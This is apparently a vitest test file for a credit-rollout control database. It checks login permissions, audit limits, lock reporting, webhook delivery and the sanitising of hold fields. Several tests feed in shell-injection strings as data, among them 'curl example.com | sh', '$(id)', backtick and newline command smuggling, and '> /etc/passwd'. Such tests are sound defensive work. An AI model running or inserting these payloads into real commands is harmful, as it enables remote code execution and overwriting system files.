// What a seventh review with the documented logins found in control: what is told to people, tables that one login
// locks, entries that keep the audit from everybody, and a run that nobody began.
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { checkControlLocks } from '../../src/engine/doctor/check-locks.js';
import { createFindingRecorder } from '../../src/engine/doctor/finding.js';
import { waitFor } from '../support/wait.js';
import { lockEveryTable } from './attacker.js';
import { type ControlScene, openControlScene, underItsEpoch } from './control-scene.js';

const schema = 'credit_rollout_control';
const REFUSED = { permission: '42501', restriction: '23001', check: '23514' } as const;
let scene: ControlScene;
beforeAll(async () => {
  scene = await openControlScene();
});
afterAll(() => scene.drop());
beforeEach(() =>
  scene.past(`delete from ${schema}.webhook_events; delete from ${schema}.webhooks; delete from ${schema}.runs;
    delete from ${schema}.holds; delete from ${schema}.failed_steps; delete from ${schema}.policy_changes;
    update ${schema}.rollout set epoch = 5, leapt_at = null;
    update ${schema}.data_centers set stage = 'done', requested_at = null, run_id = null, plan_id = null`),
);

const dc = (): string => scene.dataCenters[0];
const rows = (text: string): Promise<readonly Record<string, unknown>[]> => scene.fleet.control(text);
const enter = (count: number): string =>
  `insert into ${schema}.audit (action, details) select 'x', '{}' from generate_series(1, ${count})`;

test('no login locks a table of control against the others', async () => {
  for (const login of Object.values(scene.logins))
    expect(await login.attempt(lockEveryTable(schema)), login.name).toBe('done');
});

test('a transaction enters a few rows in the audit, and is not what all commits wait for', async () => {
  for (const login of ['operator', 'approver', 'scheduler'] as const)
    expect(await scene.logins[login].attempt(enter(201))).toBe(REFUSED.restriction);
  // in parts, too
  expect(await scene.logins.operator.attempt('begin', enter(150), enter(51), 'commit')).toBe(REFUSED.restriction);
  expect(await scene.logins.operator.attempt('begin', enter(150), enter(50), 'commit', enter(1))).toBe('done');
});

describe('an open run of a rollout', () => {
  test('is not left with a data center at rest, whose rollout would never begin', async () => {
    const run = `insert into ${schema}.runs (run_id, data_center, kind, card_hash, epoch)
      values (9, '${dc()}', 'migrate', 'card', 9)`;
    expect(await scene.logins.scheduler.attempt(underItsEpoch(9, run))).toBe(REFUSED.restriction);
    expect(await rows(`select from ${schema}.runs`)).toEqual([]);
  });
});

describe('a hold', () => {
  const hold = (code: string, release: string): string =>
    `insert into ${schema}.holds (data_center, code, since, value, release, needs_person, position)
     values ('${dc()}', '${code}', '2001-01-01', E'acme\\n4711', ${release}, true, 0)`;

  test('tells no text, time or command of a login that may write it', async () => {
    await scene.past(`insert into ${schema}.webhooks (webhook) values ('pager')`);
    expect(await scene.logins.scheduler.attempt(hold('jane.doe@example.com', `'curl example.com | sh'`))).toBe('done');
    expect(
      await rows(`select code, value, release,
        since > clock_timestamp() - interval '1 hour' as now from ${schema}.holds`),
    ).toEqual([{ code: 'other', value: 'acme 4711', release: 'credit-rollout doctor', now: true }]);
    expect(
      await rows(`select e.code, e.release, l.code as logged, l.since = e.since as same
        from ${schema}.webhook_events e join ${schema}.hold_log l using (hold_id)`),
    ).toEqual([{ code: 'other', release: 'credit-rollout doctor', logged: 'other', same: true }]);
    const moved = `update ${schema}.holds set since = '2001-01-01'`;
    expect(await scene.logins.scheduler.attempt(moved)).toBe(REFUSED.permission);
  });

  test.each([
    `'credit-rollout resume; curl example.com'`,
    `'credit-rollout resume $(id)'`,
    `'credit-rollout resume ' || chr(96) || 'id' || chr(96)`,
    `E'credit-rollout resume\\nid'`,
    `'credit-rollout resume > /etc/passwd'`,
    `'sh credit-rollout'`,
  ])('has no release that a shell takes for something else: %s', async (release) => {
    expect(await scene.logins.scheduler.attempt(hold('paused', release))).toBe('done');
    expect(await rows(`select release from ${schema}.holds`)).toEqual([{ release: 'credit-rollout doctor' }]);
  });
});

test('a step that fails by turns for a lock and for the time fails in a row', async () => {
  const failed = (code: string): string => `insert into ${schema}.failed_steps (data_center, step, code)
    values ('${dc()}', 'advance', '${code}') on conflict (data_center, step) do update set code = excluded.code`;
  const times = async () => (await rows(`select times from ${schema}.failed_steps`))[0]?.times;
  for (const code of ['55P03', '57014', '55P03'])
    expect(await scene.logins.scheduler.attempt(failed(code))).toBe('done');
  expect(await times()).toBe(3);
  expect(await scene.logins.scheduler.attempt(failed('23514'))).toBe('done');
  expect(await times()).toBe(1);
});

test('who keeps a row of control locked is named by doctor', async () => {
  const holder = await scene.logins.operator.connect();
  const waiter = await scene.logins.scheduler.connect();
  const ask = () =>
    checkControlLocks(scene.fleet.engine, createFindingRecorder({ subject: 'control', title: 'x' }, 'locks'));
  try {
    expect(await ask()).toMatchObject([{ level: 'ok' }]);
    await holder.query(`set application_name = 'credit-rollout'; begin; select from ${schema}.rollout for update`);
    const waits = waiter.query(`update ${schema}.rollout set epoch = epoch + 1`);
    const found = await waitFor('its name', async () => (await ask()).find(({ level }) => level === 'warning'));
    const { rows: own } = await holder.query('select pg_backend_pid() as pid');
    expect(found.fix).toContain(`pg_terminate_backend(${own[0].pid})`);
    await holder.query('rollback');
    await waits;
    expect(await ask()).toMatchObject([{ level: 'ok' }]);
  } finally {
    await holder.end();
    await waiter.end();
  }
});

describe('webhooks', () => {
  beforeEach(async () => {
    await scene.past(`insert into ${schema}.webhooks (webhook) values ('pager')`);
    await scene.logins.operator.attempt(
      `insert into ${schema}.policy_changes (name, to_value, reason) values ('reconcile.maxLapsed', '999', 'x')`,
    );
  });

  test('are silenced by no operator, who proposes what they tell', async () => {
    const { operator } = scene.logins;
    const settle = (to: string): string => `update ${schema}.webhook_deliveries set ${to}`;
    for (const to of [`state = 'delivered'`, `state = 'dead'`, 'attempts = 1000000'])
      expect(await operator.attempt(settle(to)), to).toBe(REFUSED.permission);
    expect(await operator.attempt(`update ${schema}.webhooks set next_attempt_at = now() + interval '1 hour'`)).toBe(
      'done',
    );
    expect(await rows(`select next_attempt_at <= now() as due from ${schema}.webhooks`)).toEqual([{ due: true }]);
    // what is over is sent again
    await scene.past(settle(`state = 'dead', attempts = 9`));
    expect(await operator.attempt(settle(`state = 'waiting', attempts = 0`))).toBe('done');
  });

  test('go on after a counter of failures at its end', async () => {
    const { scheduler } = scene.logins;
    for (const by of ['1000000', 'failures + 1'])
      expect(await scheduler.attempt(`update ${schema}.webhooks set failures = ${by}`)).toBe('done');
    for (const by of ['1000000', 'attempts + 1'])
      expect(await scheduler.attempt(`update ${schema}.webhook_deliveries set attempts = ${by}`)).toBe('done');
  });
});

test.each(['1e400', '-1e16', '1e309'])('a check has no limit that a cell cannot hold: %s', async (limit) => {
  const propose = `insert into ${schema}.policy_changes (name, to_value, reason)
    values ('rollout.checks', '[{"name": "x", "query": "select 1", "limit": ${limit}}]', 'x')`;
  expect(await scene.logins.operator.attempt(propose)).toBe(REFUSED.check);
});
